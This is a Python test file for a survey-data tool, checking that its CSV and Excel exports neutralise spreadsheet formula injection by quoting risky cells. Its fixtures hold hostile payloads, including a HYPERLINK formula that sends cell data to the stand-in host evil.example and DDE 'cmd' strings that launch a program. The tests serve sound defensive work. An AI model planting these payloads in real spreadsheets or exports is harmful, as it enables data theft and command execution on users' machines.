"""CSV and Excel files written for people are inert (issue 12): a text cell that a spreadsheet
would run as a formula (``= + - @``, tab, carriage return) gets a quote in front (OWASP), in
every export: :mod:`hemei_tools.exports`, ``hemei validate --csv`` and ``hemei select --csv``.
Numbers stay numbers."""

from __future__ import annotations

import csv

import numpy as np
import openpyxl
import pandas as pd
from click.testing import CliRunner
from hostile_data import make_hostile

from hemei_tools.cli import main
from hemei_tools.exports import (
    _csv_bytes_pandas,
    csv_bytes,
    inert_frame,
    inert_text,
    write_csv,
    write_xlsx,
)

#: Hand-made payloads and what the cell must read after export.
PAYLOADS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")': '\'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1": "'+1+1",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-": "'-",
    # plain numbers written as text (a problem row quotes the cell as written) stay as they are
    "-5": "-5",
    "+1.5e3": "+1.5e3",
    "横山村": "横山村",
    " =1": " =1",
    "a=1": "a=1",
}


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "text": list(PAYLOADS),
        "str": pd.Series(list(PAYLOADS), dtype="str"),
        "cat": pd.Categorical(list(PAYLOADS)),
        "number": np.linspace(-3.5, 8.5, len(PAYLOADS)),
        "count": pd.array([-1] + [None] * (len(PAYLOADS) - 1), dtype="Int64"),
    }).rename(columns={"count": "=count"})


def test_inert_text_quotes_formulas_only():
    for given, expected in PAYLOADS.items():
        assert inert_text(given) == expected, given
    assert inert_text(-3.5) == -3.5 and inert_text(None) is None


def test_inert_frame_keeps_numbers_and_quotes_text_and_headers():
    out = inert_frame(_frame())
    assert list(out.columns) == ["text", "str", "cat", "number", "'=count"]
    for col in ("text", "str", "cat"):
        assert out[col].tolist() == list(PAYLOADS.values()), col
    assert out["number"].dtype == np.float64 and out["number"].iloc[0] == -3.5
    assert out["'=count"].iloc[0] == -1


def test_csv_reads_back_inert(tmp_path):
    path = write_csv(_frame(), tmp_path / "t.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["text", "str", "cat", "number", "'=count"]
    body = rows[1:]
    assert [r[0] for r in body] == list(PAYLOADS.values())
    assert [r[2] for r in body] == list(PAYLOADS.values())
    assert body[0][3] == "-3.5" and body[0][4] == "-1"  # negative numbers are written as numbers


def test_xlsx_reads_back_inert_with_string_and_number_cells(tmp_path):
    path = write_xlsx(_frame(), tmp_path / "t.xlsx")
    rows = list(openpyxl.load_workbook(path).active.iter_rows())
    assert [c.value for c in rows[0]] == ["text", "str", "cat", "number", "'=count"]
    expected = [v.replace("\r", "\n") for v in PAYLOADS.values()]  # XML reads a CR back as LF
    assert [r[0].value for r in rows[1:]] == expected
    assert [r[2].value for r in rows[1:]] == expected
    assert all(c.data_type != "f" for r in rows for c in r)  # openpyxl writes "=…" strings as formulas
    assert all(r[0].data_type == "s" for r in rows[1:])
    assert rows[1][3].data_type == "n" and rows[1][3].value == -3.5
    assert rows[1][4].value == -1 and rows[2][4].value is None


# ---------------------------------------------------------------- the commands

def test_validate_csv_quotes_the_values_it_cites(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    values = [k for k in PAYLOADS if k.strip() and "\r" not in k and "\t" not in k][:5] + ["-5"]
    lines = ["village_code,year,indicator_id,value"] + [
        f'340705100200,{2010 + i},toilet_rate,"{v.replace(chr(34), chr(34) * 2)}"' for i, v in enumerate(values)]
    (data / "observations.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "problems.csv"
    r = CliRunner().invoke(main, ["validate", str(data), "--csv", str(out), "--lang", "en"])
    assert r.exit_code == 1, r.output
    problems = pd.read_csv(out, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    cited = problems.loc[problems["column"] == "value", "value"].tolist()
    assert cited == [PAYLOADS[v] for v in values], cited
    assert not any(c.startswith(("=", "+", "@")) for col in problems for c in problems[col])


def test_select_csv_quotes_a_village_name(demo_dir, tmp_path):
    data = make_hostile(demo_dir, tmp_path / "data")
    out = tmp_path / "select.csv"
    r = CliRunner().invoke(main, ["select", "--data", str(data), "--draws", "5", "--csv", str(out)])
    assert r.exit_code == 0, r.output
    table = pd.read_csv(out, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    names = table["village_name"].tolist()
    assert "'" + '=HYPERLINK("http://evil.example","x")村' in names
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for col in table for c in table[col])
    assert pd.to_numeric(table["total"]).notna().all()  # numbers stay numbers


# ---------------------------------------------------------------- csv_bytes (the download under each table)

def _mixed_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "村名": pd.Series(["横山村", "=1+1", None, 'say "hi", ok'], dtype=object),
        "=得分": [54.2, -3.5, np.nan, 190.0],
        "户数": np.array([12, -3, 0, 7], dtype=np.int64),
        "备注": pd.Series(["-", "a\r\nb", "@x", "-5"], dtype="str"),
        "达标": [True, False, True, False],
    })


def test_csv_bytes_is_excel_ready_inert_and_quoted_minimally():
    """BOM, CRLF, quotes only where a cell holds a comma, a quote or a line break; text cells
    and headers that a spreadsheet would run get a quote; numbers (even -3.5) stay numbers,
    a float column is written as pandas writes it (190.0), missing cells are empty."""
    expected = ("\ufeff村名,'=得分,户数,备注,达标\r\n"
                "横山村,54.2,12,'-,True\r\n"
                "'=1+1,-3.5,-3,\"a\r\nb\",False\r\n"
                ",,0,'@x,True\r\n"
                "\"say \"\"hi\"\", ok\",190.0,7,-5,False\r\n").encode("utf-8")
    assert csv_bytes(_mixed_frame()) == expected


def test_csv_bytes_from_lists_equals_the_pandas_route():
    """The list route (csv module) writes the bytes pandas ``to_csv`` writes, and a column it
    leaves to pandas (numbers in a text column: 190 beside 54.2 becomes 190.0) still goes there."""
    frames = [
        _mixed_frame(),
        _frame(),  # Int64 with missing cells: pandas route
        pd.DataFrame({"cat": pd.Categorical(["=a", None, "b"]), "s": pd.Series(["x", None, "+1"], dtype="str")}),
        pd.DataFrame({"only": ["", None, "—"]}),  # a one-column row with an empty cell is written ""
        pd.DataFrame({"n": pd.Series([190, 54.2, None, float("-inf")], dtype=object)}),
        _mixed_frame().iloc[:0],
    ]
    for frame in frames:
        assert csv_bytes(frame) == _csv_bytes_pandas(frame), frame.columns.tolist()
    assert csv_bytes(frames[3]) == b'\xef\xbb\xbfonly\r\n""\r\n""\r\n\xe2\x80\x94\r\n'
    assert csv_bytes(frames[4]) == "\ufeffn\r\n190.0\r\n54.2\r\n\"\"\r\n-inf\r\n".encode("utf-8")
